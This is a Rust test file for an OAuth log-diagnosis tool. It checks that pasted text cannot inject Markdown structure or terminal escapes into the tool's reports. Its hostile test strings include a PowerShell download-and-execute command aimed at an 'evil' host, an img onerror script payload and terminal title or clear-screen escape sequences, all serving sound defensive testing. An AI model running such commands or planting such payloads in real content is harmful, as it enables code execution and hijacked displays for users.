//! Text from the paste must not take over the outputs: in the Markdown report it creates no
//! heading, link, image, HTML or list item, and in the terminal report no control character
//! (escape sequences, carriage returns, bidi overrides, …) arrives as it is.
//!
//! The Markdown is read back with `pulldown-cmark`, an independent parser: a report built from a
//! hostile value must have exactly the structure of the same report built from a benign one.

use base64::Engine;
use exo_oauth_doctor::redact::{report_markdown, ReportOptions};
use exo_oauth_doctor::{analyze, report, safe_text, Analysis, Hints, Lang, Options};
use proptest::prelude::*;
use pulldown_cmark::{Event, Parser, Tag};
use std::io::Write;
use std::process::{Command, Stdio};

const NOW: i64 = 1_704_905_000;

/// A value built to break out of a code span, a list item and a line: backticks, line breaks, a
/// heading, a list item with a command, an image, HTML, a link, and terminal escapes.
const HOSTILE: &str = "x`\n\n## Checklist\n- run `iex (iwr https://evil)`\n![i](https://evil/p.png)\n<img src=x onerror=alert(1)>\n[link](https://evil) \u{1b}]0;pwned\u{7}\r\u{0}\u{7f}\u{9b}2J\u{202e}\u{2066}\u{200b}\u{feff}";

/// The same for a place that is one line of a log (no line breaks).
const HOSTILE_LINE: &str = "\u{1b}]0;title\u{7}\u{1b}[2J ![i](https://evil/p.png) <b>x</b> [l](https://evil) `` # h \u{7f}\u{9b}2J\u{202e}\u{2066}\u{200b}\u{feff}";

/// A plain value in the same places.
const BENIGN: &str = "benign";

fn b64url(s: &str) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s)
}

fn json_str(s: &str) -> String {
    serde_json::to_string(s).expect("a string serialises")
}

/// A compact JWT (fake signature) with `value` in the display-name, user and name claims.
fn jwt(value: &str) -> String {
    jwt_with(value, value)
}

/// A compact delegated JWT (fake signature) with `display` as `app_displayname` and `user` as
/// `upn` and `name`.
fn jwt_with(display: &str, user: &str) -> String {
    let (d, u) = (json_str(display), json_str(user));
    let header = b64url(r#"{"typ":"JWT","alg":"RS256"}"#);
    let payload = b64url(&format!(
        r#"{{"aud":"https://outlook.office365.com","iss":"https://sts.windows.net/72f988bf-86f1-41af-91ab-2d7cd011db47/","tid":"72f988bf-86f1-41af-91ab-2d7cd011db47","app_displayname":{d},"name":{u},"upn":{u},"scp":"IMAP.AccessAsUser.All","iat":1704901772,"exp":1704905372}}"#
    ));
    format!("{header}.{payload}.c2lnbmF0dXJlLW5vdC1rZXB0")
}

/// An XOAUTH2 SASL response (standard base64) for `user` with a token.
fn xoauth2(user: &str) -> String {
    let token = jwt("Mail Reader");
    base64::engine::general_purpose::STANDARD
        .encode(format!("user={user}\u{1}auth=Bearer {token}\u{1}\u{1}"))
}

/// The places where paste text reaches the reports: name, input, hints, for a value.
fn cases(value: &str, line_value: &str) -> Vec<(&'static str, String, Hints)> {
    let none = Hints::default;
    vec![
        (
            "token claims",
            format!(
                "Authorization: Bearer {}\nA01 NO AUTHENTICATE failed.\n",
                jwt(value)
            ),
            none(),
        ),
        (
            "xoauth2 user=",
            format!(
                "A01 AUTHENTICATE XOAUTH2 {}\nA01 NO AUTHENTICATE failed.\n",
                xoauth2(value)
            ),
            none(),
        ),
        (
            "network error",
            format!("connect ETIMEDOUT {line_value} login.microsoftonline.com:443\n"),
            none(),
        ),
        (
            "aadsts",
            format!(
                "AADSTS700016: Application with identifier '{line_value}' was not found in the directory 'Contoso'.\n"
            ),
            none(),
        ),
        (
            "token url tenant",
            format!(
                "POST https://login.microsoftonline.com/con{}toso/oauth2/v2.0/token\n",
                line_value.replace(' ', "")
            ),
            none(),
        ),
        (
            "mailbox hint",
            format!(
                "A01 AUTHENTICATE XOAUTH2 {}\nA01 NO AUTHENTICATE failed.\n",
                xoauth2("svc@contoso.com")
            ),
            Hints {
                mailbox: Some(format!("box{value}@contoso.com")),
                ..Hints::default()
            },
        ),
    ]
}

fn run(text: &str, hints: &Hints) -> Analysis {
    analyze(
        text,
        &Options {
            now: NOW,
            hints: hints.clone(),
            ..Options::default()
        },
    )
}

/// A character that must not reach a terminal as it is (an independent list, not the crate's).
fn terminal_unsafe(c: char) -> bool {
    (c.is_control() && c != '\n')
        || ('\u{80}'..='\u{9f}').contains(&c)
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
        || ('\u{200b}'..='\u{200f}').contains(&c)
        || c == '\u{feff}'
}

/// The Markdown structure a report has, as counts of what a renderer would build.
#[derive(Debug, Default, PartialEq, Eq)]
struct Shape {
    headings: usize,
    links: usize,
    images: usize,
    html: usize,
    items: usize,
    lists: usize,
    code_blocks: usize,
    quotes: usize,
    rules: usize,
    tables: usize,
    emphasis: usize,
    tasks: usize,
    footnotes: usize,
    math: usize,
    /// The text of all inline code, joined (where the hostile values must end up).
    code: String,
}

fn shape(md: &str) -> Shape {
    use pulldown_cmark::Options as O;
    let opts = O::ENABLE_TABLES
        | O::ENABLE_FOOTNOTES
        | O::ENABLE_STRIKETHROUGH
        | O::ENABLE_TASKLISTS
        | O::ENABLE_MATH
        | O::ENABLE_GFM
        | O::ENABLE_WIKILINKS;
    let mut s = Shape::default();
    for ev in Parser::new_ext(md, opts) {
        match ev {
            Event::Start(Tag::Heading { .. }) => s.headings += 1,
            Event::Start(Tag::Link { .. }) => s.links += 1,
            Event::Start(Tag::Image { .. }) => s.images += 1,
            Event::Start(Tag::HtmlBlock) | Event::Html(_) | Event::InlineHtml(_) => s.html += 1,
            Event::Start(Tag::Item) => s.items += 1,
            Event::Start(Tag::List(_)) => s.lists += 1,
            Event::Start(Tag::CodeBlock(_)) => s.code_blocks += 1,
            Event::Start(Tag::BlockQuote(_)) => s.quotes += 1,
            Event::Rule => s.rules += 1,
            Event::Start(Tag::Table(_)) => s.tables += 1,
            Event::Start(Tag::Emphasis | Tag::Strong | Tag::Strikethrough) => s.emphasis += 1,
            Event::TaskListMarker(_) => s.tasks += 1,
            Event::FootnoteReference(_) | Event::Start(Tag::FootnoteDefinition(_)) => {
                s.footnotes += 1
            }
            Event::InlineMath(_) | Event::DisplayMath(_) => s.math += 1,
            Event::Code(c) => {
                s.code.push_str(&c);
                s.code.push('\u{1}');
            }
            _ => {}
        }
    }
    s
}

/// Everything but the code text.
fn structure(s: &Shape) -> Shape {
    Shape {
        code: String::new(),
        ..*s
    }
}

fn all_report_options() -> Vec<ReportOptions> {
    let mut v = Vec::new();
    for lang in [Lang::En, Lang::De] {
        for mask_ids in [false, true] {
            v.push(ReportOptions { lang, mask_ids });
        }
    }
    v
}

#[test]
fn hostile_values_create_no_markdown_structure() {
    let hostile = cases(HOSTILE, HOSTILE_LINE);
    let benign = cases(BENIGN, BENIGN);
    for ((name, text, hints), (_, btext, bhints)) in hostile.iter().zip(&benign) {
        let a = run(text, hints);
        let b = run(btext, bhints);
        for opts in all_report_options() {
            let md = report_markdown(&a, opts);
            let plain = report_markdown(&b, opts);
            let (got, want) = (shape(&md), shape(&plain));
            assert_eq!(
                structure(&got),
                structure(&want),
                "{name} {opts:?}: the hostile value changed the structure\n{md}"
            );
            assert_eq!(got.links + got.images + got.html, 0, "{name}: {md}");
            assert!(
                !md.chars().any(terminal_unsafe),
                "{name} {opts:?}: raw control character in the report\n{md:?}"
            );
        }
    }
}

#[test]
fn hostile_values_are_shown_escaped_in_markdown() {
    // The values are not dropped: they are there, escaped, inside inline code.
    let hostile = cases(HOSTILE, HOSTILE_LINE);
    let opts = ReportOptions {
        lang: Lang::En,
        mask_ids: false,
    };
    let want: [(&str, &[&str]); 6] = [
        (
            "token claims",
            &[
                "## Checklist\\n- run",
                "![i](https://evil/p.png)",
                "\\u{1b}]0;pwned\\u{7}",
            ],
        ),
        (
            "xoauth2 user=",
            &["x`\\n\\n## Checklist\\n- run `iex (iwr https://evil)`"],
        ),
        (
            "network error",
            &["\\u{1b}]0;title\\u{7}\\u{1b}[2J", "![i](https://evil/p.png"],
        ),
        ("aadsts", &["\\u{1b}]0;title\\u{7}"]),
        ("token url tenant", &["\\u{1b}"]),
        ("mailbox hint", &["\\u{1b}]0;pwned\\u{7}"]),
    ];
    for ((name, text, hints), (wname, pieces)) in hostile.iter().zip(want) {
        assert_eq!(*name, wname);
        let md = report_markdown(&run(text, hints), opts);
        let code = shape(&md).code;
        for p in pieces {
            assert!(
                code.contains(p),
                "{name}: {p:?} not in the code spans\n{md}"
            );
        }
    }
}

#[test]
fn terminal_report_has_no_raw_control_characters() {
    for (name, text, hints) in cases(HOSTILE, HOSTILE_LINE) {
        let a = run(&text, &hints);
        for lang in [Lang::En, Lang::De] {
            let out = report::to_text(&a, lang);
            let bad: Vec<char> = out.chars().filter(|c| terminal_unsafe(*c)).collect();
            assert!(bad.is_empty(), "{name} {lang:?}: {bad:?} in\n{out}");
            // The value is shown, escaped (the terminal report lists no token claims).
            if name != "token claims" {
                assert!(
                    out.contains("\\u{1b}"),
                    "{name} {lang:?}: escape not shown\n{out}"
                );
            }
        }
    }
}

#[test]
fn terminal_report_keeps_each_value_on_its_line() {
    // A line break inside user= must not start a report line of its own.
    let (_, text, hints) = cases(HOSTILE, HOSTILE_LINE).remove(1);
    let out = report::to_text(&run(&text, &hints), Lang::En);
    assert!(
        !out.lines()
            .any(|l| l.starts_with("## Checklist") || l.starts_with("- run")),
        "{out}"
    );
    assert!(out.contains("x`\\n\\n## Checklist\\n- run"), "{out}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    /// Any string as a claim value leaves the report's structure as a plain value leaves it,
    /// and the terminal report free of control characters. (The value is the app's display
    /// name: a user name that is an address would rightly change the diagnosis.)
    #[test]
    fn any_claim_value_is_inert(value in markdownish()) {
        let text = |v: &str| format!(
            "Authorization: Bearer {}\nA01 NO AUTHENTICATE failed.\n",
            jwt_with(v, "Anna Admin")
        );
        let a = run(&text(&value), &Hints::default());
        let b = run(&text(BENIGN), &Hints::default());
        for opts in all_report_options() {
            let got = shape(&report_markdown(&a, opts));
            let want = shape(&report_markdown(&b, opts));
            prop_assert_eq!(structure(&got), structure(&want));
        }
        for lang in [Lang::En, Lang::De] {
            let out = report::to_text(&a, lang);
            prop_assert!(!out.chars().any(terminal_unsafe), "{:?}", out);
        }
    }
}

/// Strings rich in Markdown syntax, line breaks and escapes, or anything at all.
fn markdownish() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z0-9 `*_\\[\\]()<>!#&~|$@:/.=+\\-\\\\\n\r\t\u{1b}\u{7}\u{202e}]{0,40}",
        any::<String>(),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, ..ProptestConfig::default() })]

    /// A code span shows exactly the value (controls escaped) as one piece of inline code.
    #[test]
    fn code_span_shows_exactly_the_value(value in prop_oneof![markdownish(), " {1,3}"]) {
        let md = format!("- claim: {}\n", safe_text::markdown_code_span(&value));
        let s = shape(&md);
        let shown = safe_text::terminal_line(&value);
        let want = if shown.is_empty() { " ".to_string() } else { shown.into_owned() };
        prop_assert_eq!(s.code, format!("{want}\u{1}"));
        prop_assert_eq!((s.lists, s.items, s.headings, s.links, s.images, s.html), (1, 1, 0, 0, 0, 0));
    }

    /// A sentence quoting any text stays inline text of its list item: no structure at all.
    #[test]
    fn inline_text_makes_no_structure(value in markdownish()) {
        for md in [
            format!("- {}\n", safe_text::markdown_inline(&value)),
            format!("   - line 3: {}\n", safe_text::markdown_inline(&value)),
        ] {
            let s = shape(&md);
            prop_assert_eq!(
                structure(&s),
                Shape { lists: 1, items: 1, ..Shape::default() },
                "{:?}", md
            );
        }
    }
}

#[test]
fn cli_prints_no_escape_byte() {
    let (_, text, _) = cases(HOSTILE, HOSTILE_LINE).remove(0);
    let mut input = text;
    for (_, t, _) in cases(HOSTILE, HOSTILE_LINE).into_iter().skip(1) {
        input.push_str(&t);
    }
    for lang in ["en", "de"] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_exo-oauth-doctor"))
            .args([
                "analyze",
                "--lang",
                lang,
                "--now",
                "2024-01-10T16:40:00Z",
                "--mailbox",
                "box\u{1b}]0;pwned\u{7}\u{1b}[2J@contoso.com",
            ])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("the CLI starts");
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(input.as_bytes())
            .expect("write stdin");
        let out = child.wait_with_output().expect("the CLI finishes");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!out.stdout.is_empty());
        assert!(
            !out.stdout.contains(&0x1b),
            "ESC in the output: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(!text.chars().any(terminal_unsafe), "{text:?}");
        assert!(text.contains("\\u{1b}]0;pwned\\u{7}"), "{text}");
    }
}
